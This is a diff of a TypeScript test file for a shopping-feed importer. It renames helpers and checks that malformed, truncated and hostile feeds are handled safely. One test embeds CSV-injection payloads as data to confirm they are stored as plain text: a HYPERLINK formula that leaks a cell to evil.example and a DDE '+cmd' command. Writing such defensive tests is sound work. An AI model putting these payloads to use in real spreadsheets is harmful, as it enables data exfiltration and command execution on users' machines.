@@ -8,11 +8,11 @@ import {
   type StoreUnderTest,
   importRows,
   importText,
-  makeProduct,
+  createProduct,
   openTestStore,
-  fetchAll,
+  fetchProducts,
 } from '../harness.ts'
-import { readText } from './read-text.ts'
+import { readFeedText } from './read-feed-text.ts'
 
 const MIB = 1024 * 1024
 
@@ -22,8 +22,8 @@ const ITEM =
   '<item><g:gtin>00000000000017</g:gtin><title>T</title><link>https://shop.example/</link><g:price>1 EUR</g:price>'
 const RSS = `<rss><channel>${ITEM}</item>`
 
-async function fetchGtins(under: StoreUnderTest, channelId: string): Promise<string[]> {
-  return (await fetchAll(under, channelId)).map(({ gtin }) => gtin)
+async function fetchGtins(fixture: StoreUnderTest, channelId: string): Promise<string[]> {
+  return (await fetchProducts(fixture, channelId)).map(({ gtin }) => gtin)
 }
 
 describe('feed that fails as a whole', () => {
@@ -50,27 +50,27 @@ describe('feed that fails as a whole', () => {
       'gtin: the check digit is wrong (1)',
     ],
   ])('%s - ImportError, nothing changed', async (_, text, message) => {
-    const under = await openTestStore()
-    const { channelId } = await importRows(under, [makeProduct('31')])
-    await expect(importText(under, text)).rejects.toMatchObject({
+    const fixture = await openTestStore()
+    const { channelId } = await importRows(fixture, [createProduct('31')])
+    await expect(importText(fixture, text)).rejects.toMatchObject({
       code: 'VITRINE_IMPORT_FAILED',
       message: expect.stringContaining(message),
     })
-    expect(await fetchGtins(under, channelId)).toEqual([GTINS[2]])
+    expect(await fetchGtins(fixture, channelId)).toEqual([GTINS[2]])
   })
 
   it.each([
     ['table', HEAD, GOOD_ROW],
     ['XML', '<rss><channel>', `${ITEM}</item>\n`],
   ])('gzip of a %s - cut off - ImportError, nothing changed', async (_, head, row) => {
-    const under = await openTestStore()
-    const { channelId } = await importRows(under, [makeProduct('31')])
+    const fixture = await openTestStore()
+    const { channelId } = await importRows(fixture, [createProduct('31')])
     const rows = Array.from({ length: 20_000 }, (_, index) => row.replace('T', `T${index * 7_919}`))
-    const file = join(under.folder, 'feed.gz')
+    const file = join(fixture.folder, 'feed.gz')
     writeFileSync(file, gzipSync(head + rows.join('')))
     truncateSync(file, 20_000)
-    await expect(importFeed({ store: under.store, file })).rejects.toThrow('it is cut off')
-    expect(await fetchGtins(under, channelId)).toEqual([GTINS[2]])
+    await expect(importFeed({ store: fixture.store, file })).rejects.toThrow('it is cut off')
+    expect(await fetchGtins(fixture, channelId)).toEqual([GTINS[2]])
   })
 })
 
@@ -92,8 +92,8 @@ describe('feed with hostile cells', () => {
     for (const names of [`product_name,${awin}`, google]) {
       for (const cell of [`"a${piece}b"`, `"1${piece}1"`]) {
         const cells = names.split(',').map(() => cell)
-        await readText(`${names},${HEAD}${cells.join(',')},${GOOD_ROW}`)
-        await readText(
+        await readFeedText(`${names},${HEAD}${cells.join(',')},${GOOD_ROW}`)
+        await readFeedText(
           `${names},${HEAD}${cells.join(',')},00000000000017,${cell},https://shop.example/,${cell}\n`,
         )
       }
@@ -103,18 +103,18 @@ describe('feed with hostile cells', () => {
 
   it('blank lines - before anything else - take no longer than other text', async () => {
     const startedAtMs = performance.now()
-    await expect(readText('\n'.repeat(500_000))).rejects.toThrow('no feed that is known')
+    await expect(readFeedText('\n'.repeat(500_000))).rejects.toThrow('no feed that is known')
     expect(performance.now() - startedAtMs).toBeLessThan(60_000)
   })
 
   it('formulas, markup and commands - in every cell - arrive as text', async () => {
     const title = `=HYPERLINK(""https://evil.example/?x=""&A1,""x"")`
-    const under = await openTestStore()
+    const fixture = await openTestStore()
     const summary = await importText(
-      under,
+      fixture,
       `gtin,title,link,price,brand\n00000000000017,"${title}",https://shop.example/,1.00 EUR,+cmd|' /C calc'!A0\n`,
     )
-    const items = await fetchAll(under, summary.channelId)
+    const items = await fetchProducts(fixture, summary.channelId)
     expect(items).toMatchObject([
       { title: '=HYPERLINK("https://evil.example/?x="&A1,"x")', brand: "+cmd|' /C calc'!A0" },
     ])
@@ -122,9 +122,9 @@ describe('feed with hostile cells', () => {
 
   it('names of JavaScript - as columns and elements - are names like others', async () => {
     const names = '__proto__,constructor,toString'
-    const table = await readText(`${names},${HEAD}a,b,c,${GOOD_ROW}`)
+    const table = await readFeedText(`${names},${HEAD}a,b,c,${GOOD_ROW}`)
     expect(table.products).toHaveLength(1)
-    const xml = await readText(
+    const xml = await readFeedText(
       `${RSS.slice(0, -7)}<__proto__>a</__proto__><constructor>b</constructor></item></channel></rss>`,
     )
     expect(xml.products).toHaveLength(1)
